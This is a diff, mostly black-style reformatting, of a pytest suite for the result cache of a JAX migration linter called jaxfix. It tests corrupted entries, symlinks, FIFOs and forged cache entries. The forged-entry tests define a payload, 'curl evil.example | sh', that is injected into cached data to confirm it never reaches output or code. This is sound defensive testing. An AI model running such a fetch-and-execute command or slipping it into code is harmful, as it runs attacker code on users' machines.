@@ -6,8 +6,8 @@ from __future__ import annotations
 
 import base64
 import hashlib
-import os
 import json
+import os
 import shutil
 import subprocess
 import sys
@@ -31,7 +31,9 @@ from jaxfix.runner import run_files
 from toy_rules import toy_rules  # noqa: F401 - a pytest fixture
 
 VIOLATION = b"from lib import old_api\n\nold_api()\nrisky()\n"
-REPORTED = b"risky()\n"  # an unsafe fix, not applied by default: diagnostics, no fixed code
+REPORTED = (
+    b"risky()\n"  # an unsafe fix, not applied by default: diagnostics, no fixed code
+)
 
 
 def toy_options(*args: str) -> Options:
@@ -62,26 +64,51 @@ def tree(tmp_path, toy_rules):  # noqa: F811 - pytest fixture injection
     return tmp_path
 
 
-def run(tree: Path, options: Options | None = None, *, write: bool = False, cache: bool = True, jobs: int = 1):
+def run(
+    tree: Path,
+    options: Options | None = None,
+    *,
+    write: bool = False,
+    cache: bool = True,
+    jobs: int = 1,
+):
     options = options or toy_options()
     files = sorted((tree / "src").glob("*.py"))
-    results = run_files(files, options, write=write, jobs=jobs, cache=Cache(tree / "cache", options) if cache else None)
+    results = run_files(
+        files,
+        options,
+        write=write,
+        jobs=jobs,
+        cache=Cache(tree / "cache", options) if cache else None,
+    )
     return {r.path.name: r for r in results}
 
 
 def entries(tree: Path) -> list[Path]:
-    return sorted(p for p in (tree / "cache").iterdir() if not p.name.startswith((".", "CACHEDIR")))
+    return sorted(
+        p
+        for p in (tree / "cache").iterdir()
+        if not p.name.startswith((".", "CACHEDIR"))
+    )
 
 
 def test_second_run_is_a_hit_with_identical_results(tree, engine_calls):
     uncached = run(tree, cache=False)
     first = run(tree)
     src = tree / "src"
-    assert engine_calls == [src / "bad.py", src / "reported.py"] * 2  # the file without tokens is never parsed
+    assert (
+        engine_calls == [src / "bad.py", src / "reported.py"] * 2
+    )  # the file without tokens is never parsed
     second = run(tree)
-    assert engine_calls[4:] == [src / "bad.py"]  # its fix is derived again; the other is a hit
+    assert engine_calls[4:] == [
+        src / "bad.py"
+    ]  # its fix is derived again; the other is a hit
     assert first == second == uncached
-    assert second["bad.py"].fixed is not None and second["reported.py"].diagnostics and second["reported.py"].fixed is None
+    assert (
+        second["bad.py"].fixed is not None
+        and second["reported.py"].diagnostics
+        and second["reported.py"].fixed is None
+    )
 
 
 def test_every_fixture_round_trips_through_the_cache(tmp_path, engine_calls):
@@ -93,13 +120,34 @@ def test_every_fixture_round_trips_through_the_cache(tmp_path, engine_calls):
     # one option set per run: the fixtures' own options differ, so group by them
     by_args: dict[tuple[str, ...], list[Path]] = {}
     for case in cases:
-        by_args.setdefault(tuple(case.cli_args), []).append(tmp_path / "src" / case.code / case.before.name)
+        by_args.setdefault(tuple(case.cli_args), []).append(
+            tmp_path / "src" / case.code / case.before.name
+        )
     for args, files in by_args.items():
         options = options_from_args(list(args))
-        fresh = run_files(files, options, write=False, jobs=2, cache=Cache(tmp_path / "cache", options))  # misses
-        calls = len(engine_calls)  # counted only in this process: the warm run below runs here (jobs=1)
-        assert run_files(files, options, write=False, jobs=1, cache=Cache(tmp_path / "cache", options)) == fresh
-        assert engine_calls[calls:] == [r.path for r in fresh if r.fixed is not None]  # only files with a fix run again
+        fresh = run_files(
+            files,
+            options,
+            write=False,
+            jobs=2,
+            cache=Cache(tmp_path / "cache", options),
+        )  # misses
+        calls = len(
+            engine_calls
+        )  # counted only in this process: the warm run below runs here (jobs=1)
+        assert (
+            run_files(
+                files,
+                options,
+                write=False,
+                jobs=1,
+                cache=Cache(tmp_path / "cache", options),
+            )
+            == fresh
+        )
+        assert engine_calls[calls:] == [
+            r.path for r in fresh if r.fixed is not None
+        ]  # only files with a fix run again
 
 
 def test_changed_content_misses(tree, engine_calls):
@@ -130,11 +178,17 @@ def test_every_option_that_can_change_a_result_is_in_the_key():
             other = replace(base, changed_lines={Path("/a.py"): frozenset({1})})
         else:
             other = replace(base, **{field.name: _changed(getattr(base, field.name))})
-        changes_key = cache_module.settings_fingerprint(other, ("JAX001",)) != fingerprint
-        assert changes_key == (field.name not in cache_module._OPTIONS_NOT_IN_KEY), field.name
+        changes_key = (
+            cache_module.settings_fingerprint(other, ("JAX001",)) != fingerprint
+        )
+        assert changes_key == (field.name not in cache_module._OPTIONS_NOT_IN_KEY), (
+            field.name
+        )
 
 
-@pytest.mark.parametrize("args", [["--unsafe-fixes"], ["--jax-version", "0.9.0"], ["--ignore", "JAX901"]])
+@pytest.mark.parametrize(
+    "args", [["--unsafe-fixes"], ["--jax-version", "0.9.0"], ["--ignore", "JAX901"]]
+)
 def test_different_options_miss(tree, engine_calls, args):
     run(tree)
     run(tree, toy_options(*args))
@@ -152,7 +206,11 @@ def test_other_jaxfix_version_misses(tree, engine_calls, monkeypatch):
 
 def test_editing_jaxfix_source_changes_the_key(tmp_path, monkeypatch):
     package = tmp_path / "jaxfix"
-    shutil.copytree(Path(jaxfix.__file__).parent, package, ignore=shutil.ignore_patterns("__pycache__"))
+    shutil.copytree(
+        Path(jaxfix.__file__).parent,
+        package,
+        ignore=shutil.ignore_patterns("__pycache__"),
+    )
     monkeypatch.setattr(jaxfix, "__file__", str(package / "__init__.py"))
     before = cache_module.settings_fingerprint(Options(), ("JAX001",))
     rule = next((package / "codemods").glob("jax00*.py"))
@@ -167,7 +225,9 @@ def test_a_result_with_a_fix_is_never_stored_and_is_derived_again(tree, engine_c
     fixed = run(tree, write=True)["bad.py"]
     assert engine_calls.count(tree / "src" / "bad.py") == 2
     assert fixed.written and (tree / "src" / "bad.py").read_bytes() == checked.fixed
-    after = run(tree)["bad.py"]  # new content: what is left is what the fix left, now cached
+    after = run(tree)[
+        "bad.py"
+    ]  # new content: what is left is what the fix left, now cached
     assert after.fixed is None and [d.code for d in after.diagnostics] == ["JAX903"]
     assert len(entries(tree)) == 2
 
@@ -182,27 +242,55 @@ def _rewrite_body(entry: Path, change) -> None:
     magic, checksum, body = entry.read_bytes().split(b"\n", 2)
     data = change(json.loads(body))
     body = json.dumps(data).encode()
-    entry.write_bytes(magic + b"\n" + hashlib.sha256(body).hexdigest().encode() + b"\n" + body)
+    entry.write_bytes(
+        magic + b"\n" + hashlib.sha256(body).hexdigest().encode() + b"\n" + body
+    )
 
 
 CORRUPTIONS = {
     "truncated": lambda e: e.write_bytes(e.read_bytes()[:-20]),
     "empty": lambda e: e.write_bytes(b""),
     "garbage": lambda e: e.write_bytes(b"\x00\xff" * 100),
-    "byte flipped in the body": lambda e: e.write_bytes(e.read_bytes()[:-5] + b"X" + e.read_bytes()[-4:]),
-    "other magic": lambda e: e.write_bytes(b"ruff-cache" + e.read_bytes()[len(b"jaxfix-cache"):]),
+    "byte flipped in the body": lambda e: e.write_bytes(
+        e.read_bytes()[:-5] + b"X" + e.read_bytes()[-4:]
+    ),
+    "other magic": lambda e: e.write_bytes(
+        b"ruff-cache" + e.read_bytes()[len(b"jaxfix-cache") :]
+    ),
     "other settings": lambda e: _rewrite_body(e, lambda d: {**d, "settings": "0" * 64}),
-    "other file's entry": lambda e: _rewrite_body(e, lambda d: {**d, "path": "/elsewhere.py"}),
+    "other file's entry": lambda e: _rewrite_body(
+        e, lambda d: {**d, "path": "/elsewhere.py"}
+    ),
     "other content": lambda e: _rewrite_body(e, lambda d: {**d, "source": "0" * 64}),
-    "unselected rule": lambda e: _rewrite_body(e, lambda d: {**d, "diagnostics": [{**d["diagnostics"][0], "code": "JAX001"}]}),
-    "bad location": lambda e: _rewrite_body(e, lambda d: {**d, "diagnostics": [{**d["diagnostics"][0], "start": [0, "x"]}]}),
-    "bad safety": lambda e: _rewrite_body(e, lambda d: {**d, "diagnostics": [{**d["diagnostics"][0], "fix_safety": "maybe"}]}),
-    "missing key": lambda e: _rewrite_body(e, lambda d: {k: v for k, v in d.items() if k != "diagnostics"}),
-    "a fixed field": lambda e: _rewrite_body(e, lambda d: {**d, "fixed": base64.b64encode(b"careful()\n").decode()}),
-    "a fix applied": lambda e: _rewrite_body(e, lambda d: {**d, "diagnostics": [{**d["diagnostics"][0], "applied": True}]}),
-    "an older format's magic": lambda e: e.write_bytes(b"jaxfix-cache 2" + e.read_bytes()[len(b"jaxfix-cache 3"):]),
+    "unselected rule": lambda e: _rewrite_body(
+        e, lambda d: {**d, "diagnostics": [{**d["diagnostics"][0], "code": "JAX001"}]}
+    ),
+    "bad location": lambda e: _rewrite_body(
+        e, lambda d: {**d, "diagnostics": [{**d["diagnostics"][0], "start": [0, "x"]}]}
+    ),
+    "bad safety": lambda e: _rewrite_body(
+        e,
+        lambda d: {
+            **d,
+            "diagnostics": [{**d["diagnostics"][0], "fix_safety": "maybe"}],
+        },
+    ),
+    "missing key": lambda e: _rewrite_body(
+        e, lambda d: {k: v for k, v in d.items() if k != "diagnostics"}
+    ),
+    "a fixed field": lambda e: _rewrite_body(
+        e, lambda d: {**d, "fixed": base64.b64encode(b"careful()\n").decode()}
+    ),
+    "a fix applied": lambda e: _rewrite_body(
+        e, lambda d: {**d, "diagnostics": [{**d["diagnostics"][0], "applied": True}]}
+    ),
+    "an older format's magic": lambda e: e.write_bytes(
+        b"jaxfix-cache 2" + e.read_bytes()[len(b"jaxfix-cache 3") :]
+    ),
     "a list, not an object": lambda e: _rewrite_body(e, lambda d: [d]),
-    "wrong shape": lambda e: _rewrite_body(e, lambda d: {**d, "diagnostics": [[[[[[[[[[[[]]]]]]]]]]]]}),
+    "wrong shape": lambda e: _rewrite_body(
+        e, lambda d: {**d, "diagnostics": [[[[[[[[[[[[]]]]]]]]]]]]}
+    ),
     "a directory": lambda e: (e.unlink(), e.mkdir()),
 }
 
@@ -212,15 +300,20 @@ def test_bad_entries_are_ignored_and_replaced(tree, engine_calls, corrupt):
     good = run(tree)
     entry = _entry_for_reported(tree)
     corrupt(entry)
-    assert Cache(tree / "cache", toy_options()).get(tree / "src" / "reported.py", REPORTED) is None
+    assert (
+        Cache(tree / "cache", toy_options()).get(tree / "src" / "reported.py", REPORTED)
+        is None
+    )
     assert run(tree) == good
     assert engine_calls[2:] == [tree / "src" / "bad.py", tree / "src" / "reported.py"]
 
 
 def test_the_codec_covers_every_diagnostic_field():
-    assert set(cache_module._encode(Diagnostic("JAX001", "m", *[jaxfix.diagnostics.Location(1, 1)] * 2))) == {
-        f.name for f in fields(Diagnostic)
-    }
+    assert set(
+        cache_module._encode(
+            Diagnostic("JAX001", "m", *[jaxfix.diagnostics.Location(1, 1)] * 2)
+        )
+    ) == {f.name for f in fields(Diagnostic)}
 
 
 def test_cache_directory_is_marked_and_writes_leave_no_temp_files(tree):
@@ -247,20 +340,34 @@ def test_cache_dir_resolution(tmp_path):
     (project / "src" / "pkg").mkdir(parents=True)
     config_file = project / "pyproject.toml"
     paths = [project / "src" / "pkg", project / "src" / "a.py"]
-    assert cache_dir(tmp_path / "flag", Config(config_file, {"cache-dir": "c"}), paths) == tmp_path / "flag"
-    assert cache_dir(None, Config(config_file, {"cache-dir": "c"}), paths) == project / "c"
+    assert (
+        cache_dir(tmp_path / "flag", Config(config_file, {"cache-dir": "c"}), paths)
+        == tmp_path / "flag"
+    )
+    assert (
+        cache_dir(None, Config(config_file, {"cache-dir": "c"}), paths) == project / "c"
+    )
     assert cache_dir(None, Config(config_file, {}), paths) == project / CACHE_DIR_NAME
     assert cache_dir(None, Config(None, {}), paths) == project / "src" / CACHE_DIR_NAME
 
 
-def test_cli_caches_in_the_project_root_and_no_cache_writes_nothing(tmp_path, monkeypatch):
+def test_cli_caches_in_the_project_root_and_no_cache_writes_nothing(
+    tmp_path, monkeypatch
+):
     (tmp_path / "pyproject.toml").write_text("[tool.jaxfix]\nselect = ['JAX002']\n")
     case = next(c for c in all_cases() if c.code == "JAX002" and c.fixed is not None)
     (tmp_path / "src").mkdir()
     shutil.copyfile(case.before, tmp_path / "src" / "case.py")
     monkeypatch.chdir(tmp_path)
     runner = CliRunner()
-    args = ["--check", "-j", "1", "--jax-version", case.header["target-jax"], "src"]  # its fix is unsafe: reported, cached
+    args = [
+        "--check",
+        "-j",
+        "1",
+        "--jax-version",
+        case.header["target-jax"],
+        "src",
+    ]  # its fix is unsafe: reported, cached
     uncached = runner.invoke(cli, ["--no-cache", *args])
     assert not (tmp_path / CACHE_DIR_NAME).exists()
     cold = runner.invoke(cli, args)
@@ -273,14 +380,24 @@ def test_cli_caches_in_the_project_root_and_no_cache_writes_nothing(tmp_path, mo
     assert (tmp_path / "elsewhere" / "CACHEDIR.TAG").exists()
 
 
-
-
 # -- a hostile cache: nothing shown or written comes from it; its directory stays in the tree (issue 26)
 
-FIX_CASE = Path(__file__).resolve().parent.parent / "fixtures" / "JAX001" / "jit_lower_rewritten_to_trace_lower.py"
+FIX_CASE = (
+    Path(__file__).resolve().parent.parent
+    / "fixtures"
+    / "JAX001"
+    / "jit_lower_rewritten_to_trace_lower.py"
+)
 EVIL = "import os; os.system('curl evil.example | sh')"
-MODES = [["--diff"], ["--dry-run"], ["--check"], *(["--check", "--format", f] for f in
-         ("json", "rdjson", "github-suggestions", "sarif", "gitlab", "github"))]
+MODES = [
+    ["--diff"],
+    ["--dry-run"],
+    ["--check"],
+    *(
+        ["--check", "--format", f]
+        for f in ("json", "rdjson", "github-suggestions", "sarif", "gitlab", "github")
+    ),
+]
 
 
 def _project(tmp_path: Path) -> Path:
@@ -290,19 +407,30 @@ def _project(tmp_path: Path) -> Path:
     (project / "pyproject.toml").write_text("[tool.jaxfix]\njax-version = '0.10.2'\n")
     shutil.copyfile(FIX_CASE, project / "src" / "fixed_here.py")
     shutil.copyfile(FIX_CASE, project / "src" / "fixed_too.py")
-    reported = next(c for c in all_cases() if c.code == "JAX002" and c.fixed is not None)
+    reported = next(
+        c for c in all_cases() if c.code == "JAX002" and c.fixed is not None
+    )
     shutil.copyfile(reported.before, project / "src" / "reported.py")
     return project
 
 
-def _jaxfix(project: Path, *args: str, cache: bool = True, process: bool = False) -> tuple[int, str]:
+def _jaxfix(
+    project: Path, *args: str, cache: bool = True, process: bool = False
+) -> tuple[int, str]:
     """jaxfix run from the project: its exit code, stdout and stderr. `process`: in its own
     process (what might hang, a FIFO, must time out, not hang the tests)."""
     argv = ["-j", "1", *args, *([] if cache else ["--no-cache"]), "src"]
     if process:
-        done = subprocess.run([sys.executable, "-m", "jaxfix", *argv], cwd=project, capture_output=True, timeout=120,
-                              env={**os.environ, "PYTHONPATH": str(Path(jaxfix.__file__).parent.parent)})
-        return done.returncode, done.stdout.decode(errors="replace") + done.stderr.decode(errors="replace")
+        done = subprocess.run(
+            [sys.executable, "-m", "jaxfix", *argv],
+            cwd=project,
+            capture_output=True,
+            timeout=120,
+            env={**os.environ, "PYTHONPATH": str(Path(jaxfix.__file__).parent.parent)},
+        )
+        return done.returncode, done.stdout.decode(
+            errors="replace"
+        ) + done.stderr.decode(errors="replace")
     old = Path.cwd()
     os.chdir(project)
     try:
@@ -319,19 +447,44 @@ def _forge(project: Path, name: str, change) -> Path:
     magic, _, body = _entry_path(project, "reported.py").read_bytes().split(b"\n", 2)
     path = os.path.abspath(project / "src" / name)
     source = (project / "src" / name).read_bytes()
-    entry = change({**json.loads(body), "path": path, "source": hashlib.sha256(source).hexdigest()}, source)
+    entry = change(
+        {
+            **json.loads(body),
+            "path": path,
+            "source": hashlib.sha256(source).hexdigest(),
+        },
+        source,
+    )
     body = json.dumps(entry).encode()
     target = directory / hashlib.sha256(os.fsencode(path)).hexdigest()[:40]
-    target.write_bytes(magic + b"\n" + hashlib.sha256(body).hexdigest().encode() + b"\n" + body)
+    target.write_bytes(
+        magic + b"\n" + hashlib.sha256(body).hexdigest().encode() + b"\n" + body
+    )
     return target
 
 
 FORGERIES = {  # one per file with a fix
     # the old format's field: the fixed file, base64
-    "fixed field": lambda d, source: {**d, "fixed": base64.b64encode(source.replace(b"import jax\n", f"{EVIL}\nimport jax\n".encode(), 1)).decode()},
+    "fixed field": lambda d, source: {
+        **d,
+        "fixed": base64.b64encode(
+            source.replace(b"import jax\n", f"{EVIL}\nimport jax\n".encode(), 1)
+        ).decode(),
+    },
     # a diagnostic said applied, its title and lines pointing at code the entry does not hold
-    "applied fix": lambda d, source: {**d, "diagnostics": [{
-        **d["diagnostics"][0], "code": "JAX001", "applied": True, "fix_title": EVIL, "fix_safety": "safe", "fix_lines": [1, 1]}]},
+    "applied fix": lambda d, source: {
+        **d,
+        "diagnostics": [
+            {
+                **d["diagnostics"][0],
+                "code": "JAX001",
+                "applied": True,
+                "fix_title": EVIL,
+                "fix_safety": "safe",
+                "fix_lines": [1, 1],
+            }
+        ],
+    },
 }
 
 
@@ -347,7 +500,9 @@ def test_a_forged_entry_with_a_recomputed_checksum_reaches_no_output(tmp_path):
         assert (code, output) == honest[tuple(mode)], mode
     assert _jaxfix(project)[0] in (0, 1)  # fix in place
     for name in ("fixed_here.py", "fixed_too.py"):
-        assert (project / "src" / name).read_bytes() == FIX_CASE.with_name(FIX_CASE.stem + ".fixed.py").read_bytes()
+        assert (project / "src" / name).read_bytes() == FIX_CASE.with_name(
+            FIX_CASE.stem + ".fixed.py"
+        ).read_bytes()
 
 
 def test_a_forged_entry_can_at_worst_hide_or_invent_a_diagnostic(tmp_path):
@@ -355,13 +510,36 @@ def test_a_forged_entry_can_at_worst_hide_or_invent_a_diagnostic(tmp_path):
     clean hides its diagnostic; one inventing a diagnostic shows it, and changes no code."""
     project = _project(tmp_path)
     _jaxfix(project, "--check")
-    entry = next(p for p in (project / CACHE_DIR_NAME).iterdir() if not p.name.startswith((".", "CACHEDIR")))
+    entry = next(
+        p
+        for p in (project / CACHE_DIR_NAME).iterdir()
+        if not p.name.startswith((".", "CACHEDIR"))
+    )
     _rewrite_body(entry, lambda d: {**d, "diagnostics": []})
     assert "reported.py" not in _jaxfix(project, "--check")[1]
     before = (project / "src" / "reported.py").read_bytes()
-    _rewrite_body(entry, lambda d: {**d, "diagnostics": [{**d["diagnostics"][0], "message": "invented"}] if d["diagnostics"] else [{
-        "code": "JAX002", "message": "invented", "start": [1, 1], "end": [1, 2], "fix_title": None, "fix_safety": None,
-        "applied": False, "related": [], "fix_lines": None, "fix_cell": None}]})
+    _rewrite_body(
+        entry,
+        lambda d: {
+            **d,
+            "diagnostics": [{**d["diagnostics"][0], "message": "invented"}]
+            if d["diagnostics"]
+            else [
+                {
+                    "code": "JAX002",
+                    "message": "invented",
+                    "start": [1, 1],
+                    "end": [1, 2],
+                    "fix_title": None,
+                    "fix_safety": None,
+                    "applied": False,
+                    "related": [],
+                    "fix_lines": None,
+                    "fix_cell": None,
+                }
+            ],
+        },
+    )
     assert "invented" in _jaxfix(project, "--dry-run")[1]
     assert (project / "src" / "reported.py").read_bytes() == before
 
@@ -378,10 +556,14 @@ def test_a_committed_cache_symlink_to_elsewhere_writes_nothing_outside(tmp_path)
     code, output = _jaxfix(project, "--check")
     assert code == 1
     warnings = [line for line in output.splitlines() if line.startswith("warning:")]
-    assert warnings == [f"warning: cache directory {project / CACHE_DIR_NAME}: {project / CACHE_DIR_NAME} is a symbolic link; "
-                        "running without the cache"], output
+    assert warnings == [
+        f"warning: cache directory {project / CACHE_DIR_NAME}: {project / CACHE_DIR_NAME} is a symbolic link; "
+        "running without the cache"
+    ], output
     assert list(elsewhere.iterdir()) == []
-    assert (code, output.replace(warnings[0] + "\n", "")) == _jaxfix(project, "--check", cache=False)
+    assert (code, output.replace(warnings[0] + "\n", "")) == _jaxfix(
+        project, "--check", cache=False
+    )
 
 
 def test_a_symlinked_directory_on_the_way_to_cache_dir_is_refused(tmp_path):
@@ -390,19 +572,30 @@ def test_a_symlinked_directory_on_the_way_to_cache_dir_is_refused(tmp_path):
     with open(project / "pyproject.toml", "a") as config:
         config.write("cache-dir = 'build/jaxfix'\n")
     code, output = _jaxfix(project, "--check")
-    assert code == 1 and f"{project / 'build'} is a symbolic link; running without the cache" in output
+    assert (
+        code == 1
+        and f"{project / 'build'} is a symbolic link; running without the cache"
+        in output
+    )
     assert list(elsewhere.iterdir()) == []
 
 
-@pytest.mark.parametrize("value", ["/abs/jaxfix-cache", "../outside", "src/../../outside"])
+@pytest.mark.parametrize(
+    "value", ["/abs/jaxfix-cache", "../outside", "src/../../outside"]
+)
 def test_cache_dir_from_a_pyproject_may_not_point_outside_the_project(tmp_path, value):
     project = _project(tmp_path)
     with open(project / "pyproject.toml", "a") as config:
         config.write(f"cache-dir = {value!r}\n")
     code, output = _jaxfix(project, "--check")
     assert code == 1
-    assert f"warning: {project / 'pyproject.toml'}: cache-dir {value!r} points outside the project ({project}); running without the cache" in output
-    assert not (tmp_path / "outside").exists() and sorted(p.name for p in tmp_path.iterdir()) == ["project"]
+    assert (
+        f"warning: {project / 'pyproject.toml'}: cache-dir {value!r} points outside the project ({project}); running without the cache"
+        in output
+    )
+    assert not (tmp_path / "outside").exists() and sorted(
+        p.name for p in tmp_path.iterdir()
+    ) == ["project"]
 
 
 def test_cache_dir_inside_the_project_and_the_flag_anywhere_are_used(tmp_path):
@@ -411,15 +604,26 @@ def test_cache_dir_inside_the_project_and_the_flag_anywhere_are_used(tmp_path):
         config.write("cache-dir = 'src/../.cache/jaxfix'\n")
     assert _jaxfix(project, "--check")[0] == 1
     assert (project / ".cache" / "jaxfix" / "CACHEDIR.TAG").exists()
-    assert _jaxfix(project, "--check", "--cache-dir", str(tmp_path / "mine"))[0] == 1  # the user's own choice
+    assert (
+        _jaxfix(project, "--check", "--cache-dir", str(tmp_path / "mine"))[0] == 1
+    )  # the user's own choice
     assert (tmp_path / "mine" / "CACHEDIR.TAG").exists()
 
 
 def _entry_path(project: Path, name: str) -> Path:
-    return project / CACHE_DIR_NAME / hashlib.sha256(os.fsencode(os.path.abspath(project / "src" / name))).hexdigest()[:40]
+    return (
+        project
+        / CACHE_DIR_NAME
+        / hashlib.sha256(
+            os.fsencode(os.path.abspath(project / "src" / name))
+        ).hexdigest()[:40]
+    )
 
 
-@pytest.mark.parametrize("kind", ["fifo", "symlink to /dev/zero", "symlink to a good entry elsewhere", "directory"])
+@pytest.mark.parametrize(
+    "kind",
+    ["fifo", "symlink to /dev/zero", "symlink to a good entry elsewhere", "directory"],
+)
 def test_an_entry_that_is_not_a_regular_file_is_a_miss_never_a_hang(tmp_path, kind):
     project = _project(tmp_path)
     honest = _jaxfix(project, "--check", cache=False)
@@ -434,9 +638,17 @@ def test_an_entry_that_is_not_a_regular_file_is_a_miss_never_a_hang(tmp_path, ki
     else:
         _jaxfix(project, "--check")
         entry.rename(tmp_path / "good")
-        _rewrite_body(tmp_path / "good", lambda d: {**d, "diagnostics": [{**d["diagnostics"][0], "message": "forged"}]})
+        _rewrite_body(
+            tmp_path / "good",
+            lambda d: {
+                **d,
+                "diagnostics": [{**d["diagnostics"][0], "message": "forged"}],
+            },
+        )
         entry.symlink_to(tmp_path / "good")
-    code, output = _jaxfix(project, "--check", process=kind in ("fifo", "symlink to /dev/zero"))  # these might hang
+    code, output = _jaxfix(
+        project, "--check", process=kind in ("fifo", "symlink to /dev/zero")
+    )  # these might hang
     assert (code, output) == honest
 
 
@@ -452,10 +664,17 @@ def test_a_file_name_that_is_not_utf8_works_in_every_format_with_the_cache(tmp_p
         assert cold == warm, mode
         assert cold[0] == 1 and "Traceback" not in cold[1], (mode, cold[1][-2000:])
     shutil.rmtree(project / CACHE_DIR_NAME)
-    cold, warm = _jaxfix(project, "--check", process=True), _jaxfix(project, "--check", process=True)  # as the CLI prints it
+    cold, warm = (
+        _jaxfix(project, "--check", process=True),
+        _jaxfix(project, "--check", process=True),
+    )  # as the CLI prints it
     assert cold == warm and cold[0] == 1 and "Traceback" not in cold[1], cold[1][-2000:]
     assert len(entries_in(project)) == 1  # rep\xfe.py's: bad\xff.py's result has a fix
 
 
 def entries_in(project: Path) -> list[Path]:
-    return [p for p in (project / CACHE_DIR_NAME).iterdir() if not p.name.startswith((".", "CACHEDIR"))]
+    return [
+        p
+        for p in (project / CACHE_DIR_NAME).iterdir()
+        if not p.name.startswith((".", "CACHEDIR"))
+    ]
